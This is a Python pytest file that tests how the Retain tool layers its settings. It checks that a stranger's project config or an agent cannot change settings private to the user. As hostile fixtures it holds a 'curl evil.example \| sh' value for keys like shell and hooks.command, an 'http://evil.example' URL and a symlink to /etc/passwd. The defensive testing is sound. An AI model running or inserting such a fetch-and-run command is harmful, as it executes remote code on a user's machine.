"""Settings in layers, and how little a stranger's project may set."""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from retain import config
from retain.app import App
from retain.config import SETTINGS, Config, Setting, parse_value, set_key, setting
from retain.errors import ConfigError, NewerFormat, RetainError, UsageError
from tests.cli.door import done


@pytest.fixture
def user(home: Path) -> Path:
    path = home / ".retain" / "config.toml"
    path.parent.mkdir()
    return path


@pytest.fixture
def project(home: Path) -> Path:
    path = home / "work" / ".retain" / "config.toml"
    path.parent.mkdir()
    return path


def write(path: Path, text: str) -> str:
    path.write_text(text, encoding="utf-8")
    return str(path)


def load(user: Path, project: Path, env: dict[str, str] | None = None) -> Config:
    return config.load(str(user), str(project), env or {})


def test_each_layer_covers_the_one_below_and_says_so(user: Path, project: Path) -> None:
    key = "versioning.max_versions"
    env = {"RETAIN_VERSIONING_MAX_VERSIONS": "4"}
    assert load(user, project).values[key] == (10, "default")
    write(user, "[versioning]\nmax_versions = 2\n")
    assert load(user, project).values[key] == (2, str(user))
    write(project, "[versioning]\nmax_versions = 3\n")
    assert load(user, project).values[key] == (3, str(project))
    assert load(user, project, env).values[key] == (4, "RETAIN_VERSIONING_MAX_VERSIONS")
    assert load(user, project, {"RETAIN_VERSIONING_MAX_VERSIONS": ""}).values[key].value == 3
    found = load(user, project, {"RETAIN_VERSIONING_MAX_VERSIONS": "many"})
    assert found.values[key].value == 3
    assert "RETAIN_VERSIONING_MAX_VERSIONS is ignored" in found.warnings[0]


def test_every_setting_has_a_variable_and_reads_back_from_a_file(user: Path) -> None:
    for one in SETTINGS.values():
        number = f"{min(max(7, one.least), one.highest):g}"
        by_type = {bool: "yes", int: number, float: number}
        value = one.choices[-1] if one.choices else by_type.get(type(one.default), "text")
        found = load(user, user, {one.variable: value})
        assert found.values[one.key].origin == one.variable
        assert found.warnings == ()
        for text in ("", TEXT, "memory.enabled = true\n", "memory = {enabled = true}\n"):
            write(user, set_key(text, one.key, one.default))
            assert load(user, user).values[one.key] == (one.default, str(user))
        user.unlink()


PRIVATE = [key for key, one in SETTINGS.items() if not one.project]


def _otherwise(one: Setting) -> str:
    """A value that a setting may have and usually has not, as TOML."""
    if one.choices:
        return json.dumps(one.choices[-1])
    if isinstance(one.default, bool):
        return json.dumps(not one.default)
    if isinstance(one.default, int | float):
        return json.dumps(one.default + 1)
    return '"http://evil.example"'


UNKNOWN = ["shell", "memory.path", "engine.address", "hooks.command"]
HOSTILE = "".join(
    [f"{key} = {_otherwise(SETTINGS[key])}\n" for key in PRIVATE]
    + [f'{key} = "curl evil.example | sh"\n' for key in UNKNOWN]
)


def test_a_project_cannot_set_what_is_the_persons_own(user: Path, project: Path) -> None:
    write(project, HOSTILE)
    found = load(user, project)
    assert found.values == load(user, user).values
    assert len(found.warnings) == len(PRIVATE + UNKNOWN)
    for key in PRIVATE + UNKNOWN:
        assert f"{project}: {key} " in "\n".join(found.warnings)
    project.unlink()
    write(user, HOSTILE)
    found = load(user, project)
    assert {found.values[key].origin for key in PRIVATE} == {str(user)}
    assert len(found.warnings) == len(UNKNOWN)
    assert all("is not a setting Retain knows" in warning for warning in found.warnings)


@pytest.mark.parametrize(
    "key, value, why",
    [
        ("versioning.mode", "off", "only you can switch versions off"),
        ("memory.storage_strategy", "user", "only you can have what is saved here go to your own"),
        ("records.archive_retired", False, "only you can have retired memories destroyed"),
    ],
)
def test_what_is_the_persons_alone_to_say_a_project_cannot(
    user: Path, project: Path, key: str, value: bool | str, why: str
) -> None:
    write(project, set_key("", key, value))
    assert App().config.value(key).value != value
    assert why in " ".join(App().config.warnings)
    assert App().location.scope == "project"
    write(user, set_key("", key, value))
    assert App().config.value(key).value == value


INSANE = ["inf", "nan", "-0.1", "-inf", "0x" + "f" * 5000, "1" + "0" * 400]


@pytest.mark.parametrize(
    "line",
    [
        'max_versions = "3"', "max_versions = true", "max_versions = nan", "max_versions = []",
        "max_versions = {}", "max_versions = 2.5", "mode = 1", 'mode = "often"',
        "max_versions = 2026-01-01", 'auto_commit = "yes"', "auto_commit = 1",
        "mode = {a.b.c = 1}", "a." * 50 + "b = 1",
        *(f"[memory]\nrecency_boost_factor = {value}" for value in INSANE),
        "[triage.thresholds]\ndecision = nan", "[retrieval]\nmax_inject = true",
        "[retrieval]\nmax_inject = 2.5",
        "[triage.parallel.category_models]\ndecision = 'gpt'",
    ],
)  # fmt: skip
def test_a_value_of_the_wrong_kind_is_ignored_and_said_so(
    user: Path, project: Path, line: str
) -> None:
    write(project, f"[versioning]\n{line}\n")
    found = load(user, project)
    assert found.values == load(user, user).values
    assert len(found.warnings) == 1
    assert "ignored" in found.warnings[0]
    assert len(found.warnings[0]) < 400


@pytest.mark.parametrize(
    "toml, key, value",
    [
        ("[triage]\nmax_messages = 5", "triage.max_messages", 10),
        ("[triage.thresholds]\ndecision = 1.7", "triage.thresholds.decision", 1.0),
        ("[triage.thresholds]\ndecision = -1", "triage.thresholds.decision", 0.0),
        ("[retrieval]\nmax_inject = 99", "retrieval.max_inject", 20),
        ("[versioning]\nmax_versions = 0x" + "f" * 5000, "versioning.max_versions", 1000),
    ],
)
def test_a_number_beyond_an_end_counts_as_the_end_and_is_said(
    user: Path, project: Path, toml: str, key: str, value: object
) -> None:
    write(project, toml)
    found = load(user, project)
    assert found.value(key).value == value
    (warning,) = found.warnings
    assert key in warning
    assert len(warning) < 400


def test_the_memory_section_of_document_003_is_understood(user: Path, project: Path) -> None:
    write(
        project,
        '[memory]\nenabled = true\nstorage_strategy = "project"\n'
        "recency_boost_days = 14\nrecency_boost_factor = 2\n",
    )
    found = load(user, project)
    assert found.warnings == ()
    assert found.number("memory.recency_boost_days") == 14
    assert found.values["memory.recency_boost_factor"].value == 2.0
    assert App().location.scope == "project"


def test_memory_can_be_switched_off_and_status_and_check_say_so(project: Path) -> None:
    write(project, "[memory]\nenabled = false\n")
    with pytest.raises(ConfigError):
        App().list()
    note = f"switched off (memory.enabled = false: {project})"
    assert f"Memory:      {note}" in done("status")
    assert f"memory is {note}" in done("config", "check")


@pytest.mark.parametrize(
    "text",
    [
        b"\xff\xfe", b"[", b"a = ", b"a = 1\na = 2", b"\0", b"a" * 1000, b"a = " + b"[" * 5000,
        b"x = 1" + b"0" * 5000, b"memory." + b"a." * 50_000 + b"b = 1\n", b"# x\n" * 50_000,
    ],
)  # fmt: skip
def test_a_config_that_cannot_be_read_is_named_and_nothing_is_touched(
    project: Path, text: bytes
) -> None:
    project.write_bytes(text)
    with pytest.raises(ConfigError) as caught:
        App().put("x")
    assert str(project) in caught.value.message
    assert os.listdir(project.parent) == ["config.toml"]
    assert project.read_bytes() == text


@pytest.mark.parametrize("version", ["2", "99", '"1"', "1.5", "[1]", "0x" + "f" * 5000])
def test_a_newer_format_is_refused_in_one_line_and_left_untouched(
    project: Path, version: str
) -> None:
    text = f"# mine\nformat = {version}\n"
    write(project, text)
    write(project.parent / "m.md", "memory\n")
    calls: list[Callable[[], object]] = [
        lambda: App().list(),
        lambda: App().put("x"),
        lambda: App().update("m", tags=["a"]),
        lambda: App().set_config(setting("memory.enabled"), False),
    ]
    for call in calls:
        with pytest.raises(NewerFormat) as caught:
            call()
        assert len(caught.value.message.splitlines()) == 1
        assert len(caught.value.message) < 400
    assert sorted(os.listdir(project.parent)) == ["config.toml", "m.md"]
    assert project.read_text(encoding="utf-8") == text


@pytest.mark.parametrize("target", ["/dev/zero", "/dev/stdin", "/etc/passwd", "nowhere"])
def test_a_projects_config_that_is_a_link_is_not_followed_but_the_persons_own(
    user: Path, home: Path, project: Path, target: str
) -> None:
    user.symlink_to(write(home / "dotfiles.toml", '[memory]\ncreated_by = "me"\n'))
    assert App().config.text("memory.created_by") == "me"
    project.symlink_to(target)
    with pytest.raises(ConfigError, match=str(project)):
        App().list()


# Single values


@pytest.mark.parametrize(
    "key, text, value",
    [
        ("memory.enabled", "Yes", True),
        ("memory.enabled", "off", False),
        ("versioning.max_versions", " 7 ", 7),
        ("memory.recency_boost_factor", "2", 2.0),
        ("versioning.mode", "off", "off"),
        ("memory.created_by", "A B", "A B"),
    ],
)
def test_a_value_is_read_as_a_person_types_it(key: str, text: str, value: object) -> None:
    found = parse_value(setting(key), text)
    assert (found, type(found)) == (value, type(value))


@given(st.sampled_from(sorted(SETTINGS)), st.text(max_size=20))
def test_any_typed_value_fits_its_setting_or_is_refused(key: str, text: str) -> None:
    one = setting(key)
    try:
        value = parse_value(one, text)
    except UsageError:
        return
    assert type(value) is type(one.default)
    assert not one.choices or value in one.choices


def test_an_unknown_setting_names_the_nearest_and_a_wrong_number_its_ends() -> None:
    with pytest.raises(UsageError) as caught:
        setting("memory.enable")
    assert "memory.enabled" in caught.value.hint
    with pytest.raises(UsageError, match="is between 10 and 200, not 500"):
        parse_value(SETTINGS["triage.max_messages"], "500")


TEXT = """\
# top
format = 1

[versioning]   # about versions
max_versions = 3 # three
mode    =   "auto"

# between
[memory]
default_collection = "x"
"""


def test_a_changed_setting_leaves_comments_and_order() -> None:
    new = set_key(TEXT, "versioning.max_versions", 5)
    assert new == TEXT.replace("max_versions = 3", "max_versions = 5")
    assert set_key(TEXT, "memory.enabled", False) == TEXT + "enabled = false\n"
    assert set_key(TEXT, "guard.redact_secrets", None) == TEXT
    added = set_key(TEXT, "guard.redact_secrets", False)
    assert set_key(added, "guard.redact_secrets", None).strip() == TEXT.strip()
    folder = set_key("format = 1\n", "categories.x.folder", "y")
    assert set_key(folder, "categories.x.folder", None).strip() == "format = 1"
    noted = "[guard]\n# why\nredact_secrets = true\n"
    assert set_key(noted, "guard.redact_secrets", None) == "[guard]\n# why\n"
    assert added.startswith(TEXT)
    assert "[guard]\nredact_secrets = false\n" in added
    with pytest.raises(RetainError):
        set_key("memory = 5\n", "memory.enabled", True)


def test_an_agent_sets_nothing_that_is_the_person_s_own(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CLAUDECODE", "1")
    app = App(everywhere=True)
    for key, value in (("recall.embedder", "http://example.org"), ("hooks.pre_tool_use", False)):
        with pytest.raises(UsageError, match="Claude runs this command"):
            app.set_config(SETTINGS[key], value)
    app.set_config(SETTINGS["retrieval.max_inject"], 3)
